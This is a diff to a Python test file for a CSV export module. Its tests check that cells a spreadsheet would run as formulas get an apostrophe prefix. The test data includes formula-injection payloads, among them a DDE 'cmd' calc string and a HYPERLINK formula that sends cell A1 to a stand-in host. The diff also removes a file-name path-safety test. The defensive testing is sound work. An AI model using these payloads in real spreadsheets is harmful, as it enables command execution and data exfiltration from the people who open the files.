@@ -1,6 +1,7 @@
 """Files: whole or not at all, harmless in a spreadsheet and on a disk."""
 
 import csv
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -12,21 +13,10 @@ from analysis.checks import InputError
 from analysis.export import (
     hash_files,
     neutralise,
-    safe_name,
     table_writer,
     write_bytes,
     write_table,
 )
-
-
-@given(st.text(max_size=80), st.lists(st.text(max_size=10), max_size=3))
-def test_names_are_never_paths(identifier: str, others: list[str]) -> None:
-    taken = [safe_name(other) for other in others]
-    name = safe_name(identifier, taken)
-    assert name not in taken
-    assert name == Path(name).name
-    assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
-    assert name
 
 
 @given(st.text(max_size=20))
@@ -35,7 +25,8 @@ def test_no_cell_begins_a_formula(cell: str) -> None:
     assert written.endswith(cell)
     starts = written[:1] in "\t\r\n" or written.lstrip()[:1] in "=+-@＝＋－＠"
     starts = starts and written.strip() != ""
-    assert not starts or float(written) is not None
+    number_or_item = re.fullmatch(r"\s*[-+＋－]((\s.*)?|\s?\d[\d.,]*%?)", written, re.DOTALL)
+    assert not starts or number_or_item
 
 
 def test_written_cells(tmp_path: Path) -> None:
@@ -113,3 +104,47 @@ def test_a_time_that_is_missing_is_an_empty_cell(tmp_path: Path) -> None:
     times = pd.DataFrame({"a": pd.to_datetime(["2024-01-02", None]), "b": [1, 2]})
     written = write_table(times, tmp_path / "t.csv").read_text(encoding="utf-8")
     assert written == "a,b\n2024-01-02 00:00:00,1\n,2\n"
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        *("=1+1", "= 1", "@SUM(A1)", "\t=1", "\r=1", "\tx", "-2+3", "+cmd|' /C calc'!A0", "-A1"),
+        *("- cmd|' /C calc'!A0", "- 2+3", "+ 1-1", "- =1", "- -A1", "+ @x", "-\t=1", "-\n+A1"),
+        *('- HYPERLINK("http://x.example?"&A1,"y")', "- 1+SUM(A1:A9)", "-Tuesday", "＋1+1", "－A1"),
+        *(
+            " -A1",
+            "\xa0=1",
+            "-1-1",
+            "+1,2+3",
+            "- 1*2",
+            "--1",
+            "-(1)",
+            '-"x"&A1',
+            "+44 20 7946 0000",
+        ),
+    ],
+)
+def test_what_a_spreadsheet_would_run_has_an_apostrophe(cell: str) -> None:
+    assert neutralise(cell) == "'" + cell
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        *(
+            "- Tuesday 5 March: the vote",
+            "+ one more thing",
+            "-3.5",
+            "+4",
+            "-1,000.50",
+            "-3%",
+            "- 5",
+        ),
+        *("-1e-05", "-", "+", " - an item", "-\xa0an item", "- Victory at last!", "- A | B", "– x"),
+        *("- Tickets (from £12)", "- 40 = the number of shops", "－ ein Punkt", "* x", "-\twords"),
+        *("'=1", "x=1", "", " ", "“=1”", "1-2", "- e-mail: news@post.example", "- a\n- b"),
+    ],
+)
+def test_what_a_spreadsheet_would_not_run_is_kept_to_the_letter(cell: str) -> None:
+    assert neutralise(cell) == cell
